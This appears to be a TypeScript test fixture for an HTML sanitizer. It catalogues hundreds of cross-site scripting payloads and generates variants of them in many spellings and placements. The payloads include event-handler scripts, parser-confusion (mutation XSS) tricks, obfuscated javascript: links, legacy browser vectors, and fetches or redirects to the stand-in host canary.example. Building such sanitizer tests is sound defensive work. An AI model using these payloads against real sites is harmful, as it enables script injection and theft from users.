/**
 * HTML as attackers write it (F-J2): what runs a script, what fetches, what leaves the page, in every spelling and
 * place that browsers and cleaners read differently. Each calls `hit()` or names `canary.example`.
 */

/** One way of doing harm, in its plainest spelling. */
export interface Payload {
  readonly html: string
  /**
   * What today's Chromium does with it: at once by itself, or when somebody touches it (`pokes`). `nothing`: older
   * browsers did more, or it makes harm of what stands beside it.
   */
  readonly does: 'runs' | 'fetches' | 'leaves' | 'runs when poked' | 'leaves when poked' | 'nothing'
}

const X = '<img src=x: onerror=hit()>'
const AT = 'http://canary.example/'

const RUNS = [
  '<script>hit()</script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<script type=module>hit()</script>',
  X,
  '<image src=x: onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:text/javascript,hit()" /></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set onbegin=hit() attributeName=x dur=1s>',
  '<body onload=hit()>',
  '<body onpageshow=hit()>',
  '<details open ontoggle=hit()>x',
  '<audio src=x: onerror=hit()>',
  '<video src=x: onerror=hit()>',
  '<video><source src=x: onerror=hit()></video>',
  '<link rel=stylesheet href=x: onerror=hit()>',
  '<style onload=hit()>p{}</style>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<iframe onload=hit()></iframe>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<embed src="data:text/html,<script>hit()</script>">',
  '<p style="animation:a 1s" onanimationstart=hit()>x</p><style>@keyframes a{}</style>',
  '<input type=image src=x: onerror=hit()>',
  '<template shadowrootmode=open><img src=x: onerror=hit()></template>',
  '<b onfocus=hit() autofocus tabindex=0>x</b>',
]

/** A cleaner and a browser that read these by different rules see different tags. */
const READ_OTHERWISE = [
  `<noscript><p title="</noscript>${X}"></noscript>`,
  `<math><mtext><mglyph><style><math>${X}`,
  `<svg><style>${X}</style></svg>`,
  `<svg></p><style><a id="</style>${X}">`,
  `<svg><title><style></title></style>${X}`,
  `<xmp><p title="</xmp>${X}">`,
  `<textarea><p title="</textarea>${X}">`,
  `<title><p title="</title>${X}">`,
  `<iframe><p title="</iframe>${X}">`,
  `<noembed><p title="</noembed>${X}">`,
  `<noframes><p title="</noframes>${X}">`,
  `<style><p title="</style>${X}">`,
  `<script><!--<script></script>--></script>${X}`,
  `<!-->${X}-->`,
  `<!--->${X}-->`,
  `<!-- a --!>${X}-->`,
  `<!-- <!-- -->${X}-->`,
  `<![CDATA[>${X}]]>`,
  `<svg><![CDATA[<x>]]>${X}</svg>`,
  `<?xml >${X}?>`,
  `<!doctype x>${X}`,
  `<!x>${X}`,
  `</ x>${X}`,
  `<a title="<b>">${X}</a>`,
  `<p title='"'>${X}</p>`,
  `<p/title="/>"/>${X}`,
  `<x =">">${X}`,
  `<table><caption><svg><p></caption>${X}`,
]

const FETCHES = [
  `<script src=${AT}1></script>`,
  `<img src=${AT}2>`,
  `<img srcset="${AT}3 1x">`,
  `<picture><source srcset=${AT}4><img></picture>`,
  `<video poster=${AT}5></video>`,
  `<audio src=${AT}6 autoplay></audio>`,
  `<video><source src=${AT}7></video>`,
  `<link rel=stylesheet href=${AT}8>`,
  `<link rel=preload as=image href=${AT}9>`,
  `<link rel=prefetch href=${AT}10>`,
  `<link rel=modulepreload href=${AT}11>`,
  `<style>@import url(${AT}12)</style>`,
  `<style>p{background:url(${AT}13)}</style><p>x`,
  `<style>@font-face{font-family:f;src:url(${AT}14)}p{font-family:f}</style><p>x`,
  `<p style="background:url(${AT}15)">x</p>`,
  `<p style="background:image-set('${AT}16' 1x)">x</p>`,
  `<p style="list-style-image:url(${AT}17);display:list-item">x</p>`,
  `<table background=${AT}18><td>x</table>`,
  `<body background=${AT}19>`,
  `<input type=image src=${AT}20>`,
  `<object data=${AT}21></object>`,
  `<embed src=${AT}22>`,
  `<iframe src=${AT}23></iframe>`,
  `<svg><image href=${AT}24 width=9 height=9 /></svg>`,
  `<svg><image xlink:href=${AT}25 width=9 height=9 /></svg>`,
  `<svg width=9 height=9><filter id=f><feImage href=${AT}26 /></filter><rect width=9 height=9 filter=url(#f) /></svg>`,
  `<svg><style>@import "${AT}27";</style></svg>`,
  `<svg><script href=${AT}28 /></svg>`,
  `<base href=${AT}><img src=29>`,
]

const LEAVES = [
  `<meta http-equiv=refresh content="0;url=${AT}40">`,
  `<svg><animate attributeName=x onbegin="location='${AT}41'" dur=1s>`,
]

const RUNS_WHEN_POKED = [
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="javascript:hit()">x</a>',
  '<a href="javascript:hit()"><b>x</b></a>',
  '<area href="javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<form><button formaction="javascript:hit()">x</button></form>',
  '<form><input type=submit formaction="javascript:hit()"></form>',
  '<svg><a href="javascript:hit()"><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<a href="javascript://x%0ahit()">x</a>',
  '<a href=" javascript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<a href="java\nscript:hit()">x</a>',
  '<a href="java&Tab;script&colon;hit()">x</a>',
  '<a href="&#106;&#x61;vascript:hit()">x</a>',
  '<a href="\u0001\u001fjavascript:hit()">x</a>',
  '<a href="JaVaScRiPt:hit&lpar;&rpar;">x</a>',
]
const LEAVES_WHEN_POKED = [`<form action=${AT}50><button>x</button></form>`]

/** What older browsers did, and what does harm by what stands beside it. */
const OLD = [
  '<object data=x: onerror=hit()></object>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=hit()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${X}`,
  `<svg><desc><table><tr><td><title></desc>${X}`,
  `<math><annotation-xml encoding="text/html"><style>${X}</style></annotation-xml></math>`,
  `<select><style></select>${X}</style>`,
  `<option><style></option></select>${X}</style>`,
  `<plaintext/>${X}`,
  `<svg><a href=${AT}51><text>x</text></a></svg>`,
  '<img src="javascript:hit()">',
  '<img lowsrc="javascript:hit()" dynsrc="javascript:hit()">',
  '<table background="javascript:hit()"><td background="vbscript:hit">x</table>',
  '<p style="width:expression(hit())">x</p>',
  '<p style="behavior:url(#default#time2)">x</p>',
  '<p style="-moz-binding:url(data:text/xml,x)">x</p>',
  '<xml id=x><b>&lt;img src=x: onerror=hit()&gt;</b></xml><span datasrc=#x datafld=b dataformatas=html>',
  '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
  '<a href="vbscript:hit()">x</a>',
  '<a href="blob:http://canary.example/1">x</a>',
  '<a href="filesystem:http://canary.example/1">x</a>',
  '<a href="view-source:http://canary.example">x</a>',
  '<a href="feed:javascript:hit()">x</a>',
  '<a href="jar:http://canary.example!/x">x</a>',
  '<a href="\\\\canary.example\\share">x</a>',
  '<a href="/\\canary.example">x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<meta http-equiv=set-cookie content=a=b>',
  '<math href="javascript:hit()">x</math>',
  '<math><maction actiontype=statusline xlink:href="javascript:hit()">x</maction></math>',
  '<isindex action="javascript:hit()">',
  '<layer src="http://canary.example/"></layer>',
  '<applet code=x archive=http://canary.example/></applet>',
  '<frameset onload=hit()><frame src="javascript:hit()"></frameset>',
  '<keygen autofocus onfocus=hit()>',
  '<a id=hit name=hit href=https://ok.example/>x</a>',
  '<form id=hit><input name=parentNode></form>',
  '<img name=cookie>',
  '<b class=x id=x data-x=x slot=x is=x-x part=x>x</b>',
  '<a href="https://ok.example/" target=_top ping="http://canary.example/" download>x</a>',
  '<input type=password name=password autocomplete=current-password>',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&amp;lt;img src=x: onerror=hit()&amp;gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '\x1b(J<b>x\x1b(B<script>hit()</script',
]

const all = (does: Payload['does'], htmls: readonly string[]): Payload[] => htmls.map((html) => ({ html, does }))

/** Each in its plainest spelling. */
export const PLAIN_PAYLOADS: readonly Payload[] = [
  ...all('runs', RUNS),
  ...all('runs', READ_OTHERWISE),
  ...all('fetches', FETCHES),
  ...all('leaves', LEAVES),
  ...all('runs when poked', RUNS_WHEN_POKED),
  ...all('leaves when poked', LEAVES_WHEN_POKED),
  ...all('nothing', OLD),
]

/** Events that elements of every kind tell of; each may have a handler as an attribute. */
export const EVENTS = (
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforetoggle blur cancel canplay canplaythrough change click close command contextlost ' +
  'contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop ' +
  'durationchange emptied ended error focus formdata fullscreenchange fullscreenerror gotpointercapture input ' +
  'invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture mousedown mouseenter ' +
  'mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause play playing pointercancel pointerdown ' +
  'pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup progress ratechange reset ' +
  'resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange ' +
  'selectstart slotchange stalled submit suspend timeupdate toggle transitioncancel transitionend transitionrun ' +
  'transitionstart volumechange waiting webkitanimationend webkitfullscreenchange wheel'
).split(' ')

/** The spellings of a tag: a naive parser misreads at least one of them. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html.replaceAll(/<\/?[a-z]+|\bon\w+/g, (name) => name.toUpperCase()),
  (html) => html.replaceAll(/[a-z]/g, (letter, place: number) => (place % 2 ? letter.toUpperCase() : letter)),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1/'),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1\t'),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1\f\n\r'),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1/x/"/\'/ '),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1 x="" a=">" '),
  (html) => html.replaceAll(/(<[a-z]+) /g, '$1 \u0000'),
  (html) => html.replaceAll(/<([a-z]+)/g, '<\u0000$1'),
  (html) => html.replaceAll(/<([a-z])([a-z]*)/g, '<$1\u0000$2'),
  (html) => html.replaceAll('=', '\n=\n'),
  (html) => html.replaceAll(/=([^"'\s>]+)/g, '="$1"'),
  (html) => html.replaceAll(/=([^"'\s>]+)/g, '=`$1`'),
  (html) => html.replaceAll('hit()', '&#104;&#x69;&#0000116&lpar;)'),
  (html) => html.replaceAll('hit()', 'hit``'),
  (html) => html.replaceAll('<', '<<'),
  (html) => html.replaceAll(/>$/g, ''),
  (html) => html.replaceAll(/>$/g, ' <'),
  (html) => html.replaceAll(/<(\/?)([a-z]+)/g, '<$1$2:$2'),
]

/** Where it stands; `$` is the place. */
const PLACES = [
  ...[
    '<p>$</p>',
    '<p title="$">x</p>',
    "<p title='$'>x</p>",
    '<!--$-->',
    '<!-- > $',
    '<a href="https://ok.example/">$</a>',
  ],
  ...[
    '<table>$</table>',
    '<table><tr><td>$',
    '<svg>$</svg>',
    '<svg><foreignObject>$',
    '<math><mi>$',
    '<style>$</style>$',
  ],
  ...[
    '<title>$</title>$',
    '<textarea>$</textarea>$',
    '<noscript>$</noscript>$',
    '<template>$</template>$',
    '<select>$',
  ],
  ...['<iframe>$</iframe>$', '<ul><li>$<li>$', '<pre>\n$</pre>', '<b><i>$</b>$</i>', '</p></div></body></html>$'],
  ...[
    `${'<div>'.repeat(70)}$`,
    `${'<b>'.repeat(30)}$`,
    'a<$',
    '&lt;$&gt;',
    '\ufeff$',
    '$\u0000$',
    `${'x'.repeat(8_190)}$`,
  ],
]

/** All of them in all spellings and places, each once. */
export function htmlPayloads(): string[] {
  const plain = PLAIN_PAYLOADS.map(({ html }) => html)
  const handlers = EVENTS.flatMap((event) => [
    `<b on${event}=hit()>x</b>`,
    `<a href="https://ok.example/" ON${event.toUpperCase()} = "hit()">x</a>`,
    `<img src="cid:a"on${event}=hit()>`,
  ])
  const spelled = plain.flatMap((html) => SPELLINGS.map((spell) => spell(html)))
  const placed = plain.flatMap((html) => PLACES.map((place) => place.replaceAll('$', () => html)))
  return [...new Set([...plain, ...handlers, ...spelled, ...placed])]
}
